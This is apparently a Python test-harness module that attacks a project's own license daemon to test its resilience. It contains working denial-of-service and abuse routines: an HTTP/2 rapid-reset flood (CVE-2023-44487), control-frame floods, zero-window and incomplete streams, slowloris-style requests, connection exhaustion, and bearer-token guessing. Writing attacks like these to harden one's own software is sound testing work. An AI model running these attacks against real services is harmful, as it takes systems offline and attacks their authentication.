"""What strangers and dishonest callers do to the ports of a daemon, each until it is told to stop.

Run as `python -m hostile.attacks NAME`, with the target as JSON on standard input: a process of its own, so that no
attack waits for another's or the judge's interpreter. It ends when standard input does.
"""

import json
import os
import random
import socket
import sys
import threading
from collections.abc import Callable
from contextlib import suppress
from dataclasses import asdict, dataclass
from typing import Any
from urllib.parse import urlsplit

import grpc
from support import raw_http2
from support.raw_http2 import RawHttp2, frame, header_block, message

from licd.v1 import node_service_pb2, node_service_pb2_grpc

JOIN = "/licd.v1.NodeService/Join"
UPLOAD = "/licd.v1.RegistrationService/UploadLicense"
HEALTH = "/grpc.health.v1.Health/Watch"
EVENTS = "/licd.v1.ClusterService/WatchEvents"
CONNECTIONS, STREAMS, CROWD = 20, 100, 200
DECLARED = 60_000
APPLICATION = node_service_pb2.Application(
    name="report-server", version="10.0", build_date="2024-05-01", content="sales"
)
BEGIN = raw_http2.PREFACE + frame(raw_http2.SETTINGS, 0, 0)


@dataclass(frozen=True)
class Target:
    """Where a daemon without TLS is, and tokens that a dishonest caller has."""

    grpc: str
    console: str
    ops: str
    node: str
    viewer: str


Attack = Callable[[Target], None]
"""One round; it is begun again and again."""


def unfinished(target: Target) -> None:
    """Messages of strangers and of a node that never become whole."""
    for token in ("", target.node):
        client = _kept(RawHttp2(target.grpc))
        for _ in range(STREAMS):
            client.send(client.open(UPLOAD if token else JOIN, token), message(bytes(1000), DECLARED), 0.01)


def no_window(target: Target) -> None:
    """Streams that are asked for and never read."""
    client = _kept(RawHttp2(target.grpc, window=0))
    for path, token in ((HEALTH, ""), (EVENTS, target.viewer)):
        for _ in range(STREAMS // 2):
            client.call(path, b"", token)


def resets(target: Target) -> None:
    """Calls that are taken back at once (CVE-2023-44487)."""
    block = header_block(JOIN)
    streams = range(1, 2000, 2)
    pairs = (frame(raw_http2.HEADERS, 4, n, block) + frame(raw_http2.RST_STREAM, 0, n, bytes(4)) for n in streams)
    _thrown(target.grpc, BEGIN + b"".join(pairs))


def control_frames(target: Target) -> None:
    """Pings, settings and windows that each want an answer."""
    ping, settings = frame(raw_http2.PING, 0, 0, bytes(8)), frame(raw_http2.SETTINGS, 0, 0)
    _thrown(target.grpc, BEGIN + (ping + settings + frame(raw_http2.WINDOW_UPDATE, 0, 0, b"\0\0\0\1")) * 1000)


def unnamed(target: Target) -> None:
    """Calls of methods that nobody has, in bytes that are no text."""
    block = header_block("/licd.v1.N\udce3/Join", "\udce3")
    _thrown(target.grpc, BEGIN + b"".join(frame(raw_http2.HEADERS, 5, 2 * n + 1, block) for n in range(STREAMS)))


def guesses(target: Target) -> None:
    """Tokens that are guessed."""
    with grpc.insecure_channel(target.grpc) as channel:
        stub: Any = channel.unary_unary(JOIN, bytes, bytes)
        for _ in range(200):
            with suppress(grpc.RpcError):
                stub(b"", metadata=[("authorization", f"Bearer licd_{random.randbytes(20).hex()}")], timeout=5)


def joins(target: Target) -> None:
    """One node token that joins without end, and never comes back."""
    metadata = [("authorization", f"Bearer {target.node}")]
    with grpc.insecure_channel(target.grpc) as channel:
        join = node_service_pb2_grpc.NodeServiceStub(channel).Join
        for _ in range(200):
            identity: dict[str, Any] = {
                "instance_id": random.randbytes(16).hex(),
                "resume_secret": random.randbytes(32),
            }
            request = node_service_pb2.JoinRequest(node_name="x" * 200, application=APPLICATION, **identity)
            with suppress(grpc.RpcError):
                join(request, metadata=metadata, timeout=5)


def idle(target: Target) -> None:
    """Connections to every port that say nothing."""
    for address in (target.grpc, target.console, target.ops):
        for _ in range(CROWD):
            _kept(_connected(address))


def slow(target: Target) -> None:
    """Heads that come a byte at a time, and answers that nobody reads."""
    for address in (target.console, target.ops):
        for _ in range(CROWD // 4):
            _kept(_connected(address)).sendall(b"GET /metrics HTTP/1.1\r\nhost: x\r\nx")
            _kept(_connected(address)).sendall(b"GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n" * 4)


def garbage(target: Target) -> None:
    """Noise at every port."""
    for address in (target.grpc, target.console, target.ops):
        for _ in range(50):
            _thrown(address, random.choice((b"", BEGIN, b"GET / HTTP/1.1\r\n")) + random.randbytes(500))


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (unfinished, no_window, resets, control_frames, unnamed, guesses, joins, idle, slow, garbage)
}
_KEPT: list[Any] = []


def _kept(connection: Any) -> Any:
    """Keeps the newest connections open, and closes the oldest, so that an attacker's own descriptors last."""
    _KEPT.append(connection)
    while len(_KEPT) > CONNECTIONS * 40:
        _KEPT.pop(0).close()
    return connection


def _connected(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=5)


def _thrown(address: str, content: bytes) -> None:
    with suppress(OSError), _connected(address) as connection:
        connection.sendall(content)
        connection.recv(65_536)


def target_of(daemon: Any) -> Target:
    """Of a `support.daemon.Daemon` that runs with --insecure."""
    console, ops = urlsplit(daemon.console).netloc, urlsplit(daemon.ops).netloc
    return Target(daemon.address, console, ops, daemon.token("node"), daemon.token("viewer"))


def main() -> None:
    """Attack until standard input ends."""
    os.nice(19)  # real attackers have processors of their own
    attack, target = ATTACKS[sys.argv[1]], Target(**json.loads(sys.stdin.readline()))
    over = threading.Event()

    def wait() -> None:
        sys.stdin.read()
        over.set()

    threading.Thread(target=wait, daemon=True).start()
    while not over.wait(0.05):
        with suppress(OSError):
            attack(target)


def as_line(target: Target) -> str:
    """What a process of an attack is told."""
    return json.dumps(asdict(target)) + "\n"


if __name__ == "__main__":
    main()
